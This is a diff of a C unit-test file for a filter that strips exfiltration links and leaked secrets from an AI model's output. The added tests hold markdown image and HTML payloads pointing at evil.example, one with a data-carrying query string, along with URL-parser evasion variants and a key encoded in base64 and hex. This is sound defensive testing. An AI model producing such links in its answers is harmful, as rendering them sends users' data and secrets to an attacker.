@@ -217,8 +217,10 @@ test_events(void **state)
 }
 
 
+/* Bare URLs are checked by default: GFM, marked and linkify make them
+ * links (issue 15). */
 static void
-test_bare_default_off(void **state)
+test_bare_default_on(void **state)
 {
     cg_outguard_conf_t *c = cg_outguard_conf_new();
     cg_outguard_t      *g = cg_outguard_new(c, NULL);
@@ -230,7 +232,7 @@ test_bare_default_off(void **state)
     cg_buf_init(&out);
     assert_int_equal(cg_outguard_feed(g, in, strlen(in), &out), 0);
     assert_int_equal(cg_outguard_finish(g, &out), 0);
-    assert_string_equal(out.data, "see https://evil.example/x and i");
+    assert_string_equal(out.data, "see [link removed] and i");
     /* Reset makes it ready for another answer with fresh counters. */
     cg_outguard_reset(g, NULL);
     cg_buf_reset(&out);
@@ -347,15 +349,73 @@ test_random_splits(void **state)
 }
 
 
+/* Issue 15: the two answers a headless Chromium really fetched from, and
+ * variants, one-shot and a byte at a time; the key in encodings. */
+static void
+test_issue15(void **state)
+{
+    static const struct { const char *in, *out; } c[] = {
+        { "[x](/rel ![i](https://evil.example/p.png?d=[EMAIL_0a1b2c3d]))",
+          "[x] (/rel i)" },
+        { "[x](/rel\n![i](//evil.example/p.png))", "[x] (/rel\ni)" },
+        { "[x](</rel> 'x' ![i](\\\\evil.example/p))", "[x] (</rel> 'x' i)" },
+        { "<img src=\" //evil.example/x\">", "" },
+        { "<img src=\"\\\\evil.example/x\">", "" },
+        { "<img src=\"/\\evil.example/x\">", "" },
+        { "<img src=\"/\t/evil.example/x\">", "" },
+        { "<iframe srcdoc=\"<img src=//evil.example/x>\">", "" },
+        { "<video poster=\" //evil.example/x\">", "" },
+        { "a<style>p{background:url(//evil.example/s)}</style>b", "a b" },
+        { "<img src=\"https://docs.example.com/ok.png\">",
+          "<img src=\"https://docs.example.com/ok.png\">" },
+        { "[ok](https://docs.example.com/a \"t\")",
+          "[ok](https://docs.example.com/a \"t\")" },
+    };
+    size_t   i, j, n, on, gn, cuts[600];
+    char    *one, *got;
+    unsigned ev;
+
+    (void) state;
+    for (i = 0; i < sizeof(c) / sizeof(c[0]); i++) {
+        n = strlen(c[i].in);
+        one = guard_split(c[i].in, n, NULL, 0, NULL, &on);
+        assert_string_equal(one, c[i].out);
+        for (j = 0; j + 1 < n; j++) {
+            cuts[j] = j + 1;
+        }
+        got = guard_split(c[i].in, n, cuts, n - 1, NULL, &gn);
+        assert_string_equal(got, one);
+        free(one);
+        free(got);
+    }
+    /* base64 of the own key inside a larger blob, and hex: redacted and
+     * reported, like the key itself. */
+    one = guard_split("k=Y2ctb3duLXNlY3JldC0wMTIzNDU2Nzg5 "
+                      "63672d6f776e2d7365637265742d30313233343536373839", 83,
+                      NULL, 0, &ev, &on);
+    assert_string_equal(one, "k=[REDACTED] [REDACTED]");
+    assert_true(ev & CG_OG_EV_SECRET);
+    free(one);
+    /* A key inside a removed link still means the key reached the model. */
+    one = guard_split("[a](https://evil.example/?k=" OWN ")",
+                      strlen("[a](https://evil.example/?k=" OWN ")"), NULL, 0,
+                      &ev, &on);
+    assert_string_equal(one, "a");
+    assert_true(ev & CG_OG_EV_SECRET);
+    free(one);
+}
+
+
 int
 main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_corpus),
         cmocka_unit_test(test_events),
-        cmocka_unit_test(test_bare_default_off),
+        cmocka_unit_test(test_bare_default_on),
         cmocka_unit_test(test_lookahead),
         cmocka_unit_test(test_random_splits),
+        cmocka_unit_test(test_issue15),
     };
 
     return cmocka_run_group_tests(tests, setup, teardown);
